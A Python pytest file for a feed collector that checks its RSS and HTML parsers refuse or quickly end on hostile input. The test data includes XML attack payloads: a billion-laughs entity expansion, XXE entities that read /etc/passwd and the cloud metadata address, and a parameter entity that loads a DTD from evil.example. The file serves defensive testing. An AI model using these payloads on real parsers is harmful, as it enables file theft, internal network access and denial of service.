"""Hostile feeds: entities, huge and malformed bodies end soon, in one sentence."""

from __future__ import annotations

import time
from contextlib import suppress

import pytest

from collectors.errors import PayloadError
from collectors.html import read_html
from collectors.opener import Reply
from collectors.sources.blog.feed import is_feed, read_feed
from collectors.sources.blog.front import signs_of_page

MIB = 1024 * 1024
ITEM = "<item><title>{}</title><link>https://a.example/1</link></item>"
RSS = "<rss version='2.0'><channel><title>A</title>{}</channel></rss>"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def reply(body: bytes | str, kind: str = "application/rss+xml", **headers: str) -> Reply:
    """A feed as it came."""
    data = body.encode() if isinstance(body, str) else body
    return Reply(200, "https://a.example/feed/", {"Content-Type": kind, **headers}, data)


@pytest.mark.parametrize(
    "declarations",
    ['<!ENTITY l0 "ha">' + LAUGHS,
     '<!ENTITY l9 SYSTEM "file:///etc/passwd">',
     '<!ENTITY l9 SYSTEM "http://169.254.169.254/">',
     '<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;',
     f'<!ENTITY l9 "{"a" * 100_000}">',
     '<!ELEMENT a ANY>'],
)  # fmt: skip
@pytest.mark.parametrize("before", ["", "<?xml version='1.0'?>", " <!-- <rss> --><?a <rss>?>\n"])
def test_a_feed_that_declares_entities_is_refused(declarations: str, before: str) -> None:
    body = f"{before}<!DOCTYPE rss [{declarations}]>{RSS.format(ITEM.format('&l9;' * 1000))}"
    began = time.monotonic()
    for data in (body.encode(), body.encode("utf-16"), body.encode("utf-8-sig")):
        with pytest.raises(PayloadError, match="declares entities"):
            read_feed(reply(data))
    assert time.monotonic() - began < 1


def test_an_external_doctype_is_dropped_and_not_fetched() -> None:
    doctype = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://127.0.0.1:9/a.dtd">'
    feed = read_feed(reply(doctype + RSS.format(ITEM.format("À l&#39;&eacute;cole"))))
    assert feed.entries[0].title == "À l'école"


def test_a_doctype_after_the_root_declares_nothing() -> None:
    inner = '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + ITEM.format("&x;")
    feed = read_feed(reply(RSS.format(inner)))
    assert "root:" not in repr(feed.entries)


@pytest.mark.parametrize(
    "body",
    ["<?" * MIB, "<!--" * MIB, "<!-- -->" * 600_000, " " * 5 * MIB, "<!DOCTYPE " * 500_000,
     "<?xml " * 800_000, RSS.format("<a b='" * 100_000), RSS.format("<item>" * 140_000),
     RSS.format("<a>" * 100_000), RSS.format("<" * 140_000), RSS.format("&" * 4 * MIB),
     RSS.format("<item/>" * 1001), RSS.format("<![CDATA[" * 100_000),
     RSS.format("<enclosure url='a'/>" * 200_000)],
    ids=lambda body: f"{body[:6]}… {len(body)}",
)  # fmt: skip
def test_any_body_of_five_mib_ends_in_seconds(body: str) -> None:
    began = time.monotonic()
    with suppress(PayloadError):
        assert len(read_feed(reply(body[: 5 * MIB])).entries) <= 1000
    assert time.monotonic() - began < 20


JUNK = [
    "<meta ", "<link rel=", "<!--", "<a b='", "</", "&#", "<div>", "<br>", "<p>", "<li>", "<![",
    "<p></b>", "<a href=", "<script>", "<a b=\"", "<", "& ", " ", "-->", "a=", "<a href='x'>",
]  # fmt: skip


@pytest.mark.parametrize("junk", JUNK)
def test_any_page_and_any_content_end_in_seconds(junk: str) -> None:
    html = junk * (400_000 // len(junk))
    began = time.monotonic()
    assert signs_of_page(reply(html, "text/html")).feeds == ()
    read_html(html)
    assert time.monotonic() - began < 5


@pytest.mark.parametrize(
    ("encoding", "declared"),
    [("utf-8", ""), ("iso-8859-1", "iso-8859-1"), ("windows-1252", "windows-1252"),
     ("utf-16", ""), ("utf-8-sig", "utf-8"), ("windows-1252", "utf-8"),
     ("windows-1252", "punycode")],
)  # fmt: skip
def test_text_is_read_in_its_encoding(encoding: str, declared: str) -> None:
    head = f"<?xml version='1.0' encoding='{declared}'?>" if declared else ""
    feed = read_feed(reply((head + RSS.format(ITEM.format("Écluse"))).encode(encoding)))
    assert feed.entries[0].title == "Écluse"


def test_half_a_feed_is_none() -> None:
    body = RSS.format(ITEM.format("a") * 20)
    with pytest.raises(PayloadError, match="half"):
        read_feed(reply(body[: len(body) // 2]))


@pytest.mark.parametrize(
    "body", ["", "<html><head></head></html>", '{"version": "https://jsonfeed.org"}', "\xff\xfe"]
)
def test_what_is_no_feed_is_none(body: str) -> None:
    assert not is_feed(reply(body))
    with pytest.raises(PayloadError, match="no feed"):
        read_feed(reply(body))


def test_a_feed_with_a_slip_is_read_all_the_same() -> None:
    body = RSS.format("<item><title>Fish & chips</title><link>https://a.example/1</link></item>")
    assert len(read_feed(reply(body)).entries) == 1
